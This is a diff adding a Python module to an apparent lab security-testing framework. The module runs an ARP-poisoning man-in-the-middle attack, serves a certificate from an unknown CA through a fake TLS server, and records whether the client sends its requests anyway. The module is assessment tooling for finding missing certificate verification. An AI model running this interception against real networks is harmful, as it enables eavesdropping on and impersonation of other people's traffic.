@@ -1,0 +1,199 @@
+"""Impersonate a server towards its client, as root on a worker that redirects packets.
+
+ARP poisoning brings the packets to the worker. A firewall rule redirects those for one server to
+the attacker's process, which has a certificate of an unknown CA. The firewall does not redirect a
+connection that it saw before: it resets it, and the client opens a new one. Plaintext is
+forwarded to the real server. The rules and the process are removed at the end.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import re
+from collections.abc import Callable, Sequence
+from concurrent.futures import ThreadPoolExecutor, wait
+from dataclasses import dataclass, field
+from typing import TYPE_CHECKING
+
+from labkit import agents
+from labkit.errors import ProbeError, ProbeTimeout
+from labkit.lab.pki import Authority
+from labkit.model import Channel, Foothold, Model, read_model
+from labkit.techniques._lib.machines.reach import inside, run
+from labkit.techniques._lib.technique import ROOT_ON_WORKER, Prediction, Technique
+from labkit.techniques._lib.verdict import Verdict
+from labkit.techniques._lib.wire.capture import flush_neighbours, place_of, wait_until_poisoned
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["ANSWER", "InterceptionTarget", "intercept", "technique"]
+
+#: The answer of the false server to a request over TLS.
+ANSWER = b"labkit: this is not what you asked for\n"
+#: Seconds that the false server runs, and that one call may take to reach it. A call over an old
+#: connection that is reset is lost, so the client is made to call again.
+STAY, CALL = 20, 4
+
+
+@dataclass(frozen=True, slots=True)
+class InterceptionTarget:
+    """One client that may accept the attacker as its server.
+
+    Parameters
+    ----------
+    about : str
+        A shell pattern for the ids of the channels.
+    call : callable
+        Takes a lab. It makes the client call its server, undoes that, and returns the client's
+        output.
+    wanted : str
+        Text that identifies a request of the client in the plaintext.
+    read : str
+        What the attacker has read, for the evidence.
+    positive_control : callable
+        Takes a lab. It shows that the client reaches the real server when no attacker is in
+        between, and returns that in words.
+    """
+
+    about: str
+    call: Callable[[Lab], bytes | None] = field(repr=False)
+    wanted: str
+    read: str
+    positive_control: Callable[[Lab], str] = field(repr=False)
+
+
+def predict(model: Model, target: InterceptionTarget) -> Prediction:
+    """Predict whether the client verifies its server's certificate."""
+    found = model.open_channels(target.about)
+    if not found:
+        return Prediction(
+            False, tuple(str(c.encryption) for c in model.closed_channels(target.about))
+        )
+    claims = [channel.server_authentication for channel in found]
+    unverified = [claim for claim in claims if claim.value in ("none", "unverified")]
+    return Prediction(bool(unverified), (str((unverified or claims)[0]),))
+
+
+def intercept(lab: Lab, foothold: Foothold, name: str, target: InterceptionTarget) -> Verdict:
+    """Intercept a client's calls with a certificate of an unknown CA, and return the verdict.
+
+    Raises
+    ------
+    ProbeTimeout
+        The client did not call.
+    ProbeError
+        The client's answer is neither a request nor a TLS alert.
+    """
+    found = read_model(lab.environment).open_channels(target.about)
+    seen, believed_it = _intercept_calls(lab, foothold, found, target)
+    channel = found[0]
+    asked = [f"{channel.client} was led to the attacker's server"]
+    for entry in seen:
+        if "plaintext" in entry:
+            reason = "plaintext: nothing says who the server is"
+            return _succeeded(lab, name, foothold, reason, [*asked, f"read: {target.read}"])
+        if "tls" in entry:
+            line = base64.b64decode(entry["tls"]).split(b"\r\n")[0].decode(errors="replace")
+            if not re.match(r"[A-Z]+ /\S* HTTP/", line):
+                raise ProbeError(f"{name}: the client sent no request", evidence=[line[:80]])
+            more = [f"read over TLS: {target.read}"]
+            if believed_it:
+                more.append("the attacker's answer was believed and passed on")
+            reason = "TLS, but the client does not look whose certificate it is"
+            return _succeeded(lab, name, foothold, reason, [*asked, *more])
+    alert = next((entry["alert"] for entry in seen if "alert" in entry), "")
+    if not alert:
+        raise ProbeTimeout(f"{name}: {channel.client} did not call within {STAY} s")
+    positive_control = target.positive_control(lab)
+    reason = f"TLS alert: {alert}"
+    return Verdict(name, lab.mode, foothold, False, reason, tuple(asked), positive_control)
+
+
+def _succeeded(
+    lab: Lab, name: str, foothold: Foothold, reason: str, evidence: Sequence[str]
+) -> Verdict:
+    return Verdict(name, lab.mode, foothold, True, reason, tuple(evidence))
+
+
+def _intercept_calls(
+    lab: Lab, foothold: Foothold, found: Sequence[Channel], target: InterceptionTarget
+) -> tuple[list[dict[str, str]], bool]:
+    """Start the false server, make the client call, and return what both saw."""
+    here = place_of(lab, foothold)
+    client = found[0].client.rpartition("@")[2]
+    servers = sorted({channel.server.rpartition("@")[2] for channel in found})
+    leaf = Authority.create("labkit-unknown-ca").issue(
+        servers[0], hosts=[*servers, "localhost"], usages=["server"]
+    )
+    address, addresses = inside(lab, client), [inside(lab, server) for server in servers]
+    job = {
+        "certificate_pem": leaf.certificate.decode(),
+        "key_pem": leaf.key.decode(),
+        "client": address,
+        "servers": addresses,
+        "port": found[0].port,
+        "wanted": target.wanted,
+        "answer": ANSWER.decode(),
+        "lead": agents.argv("arp_poison", *(word for it in addresses for word in (address, it))),
+        "seconds": STAY,
+    }
+    pairs = [(client, server) for server in servers]
+    argv = agents.argv("fake_server")
+    with ThreadPoolExecutor(max_workers=1) as pool:
+        stdin = json.dumps(job).encode()
+        future = pool.submit(run, lab, here, argv, stdin=stdin, timeout=STAY + 20, check=True)
+        try:
+            wait_until_poisoned(lab, here, pairs)
+            said = [target.call(lab)]
+            while not wait([future], timeout=CALL).done:
+                said.append(target.call(lab))
+            output = future.result()
+        finally:
+            future.exception()
+            flush_neighbours(lab, pairs)
+    seen: list[dict[str, str]] = json.loads(output.stdout)
+    return seen, any(answer and ANSWER in answer for answer in said)
+
+
+def technique(
+    name: str,
+    title: str,
+    target: InterceptionTarget,
+    *,
+    stride: tuple[str, ...],
+    sources: tuple[str, ...],
+) -> Technique:
+    """Make the technique that intercepts a client's calls."""
+
+    def predict_technique(model: Model, foothold: Foothold) -> Prediction:
+        """Predict whether the client verifies its server's certificate."""
+        return predict(model, target)
+
+    def execute_technique(lab: Lab, foothold: Foothold) -> Verdict:
+        """Redirect the client to a false server, make it call, and see whether it sends a request.
+
+        Raises
+        ------
+        ProbeTimeout
+            The client did not call.
+        ProbeError
+            The client's answer is neither a request nor a TLS alert.
+        """
+        return intercept(lab, foothold, name, target)
+
+    return Technique(
+        name=name,
+        title=title,
+        footholds=(ROOT_ON_WORKER,),
+        grants=(),
+        about=target.about,
+        properties=("server_authentication",),
+        attack=("T1557.002",),
+        stride=stride,
+        cwe=("CWE-295", "CWE-300"),
+        sources=("https://attack.mitre.org/techniques/T1557/002/", *sources),
+        predict=predict_technique,
+        execute=execute_technique,
+    )
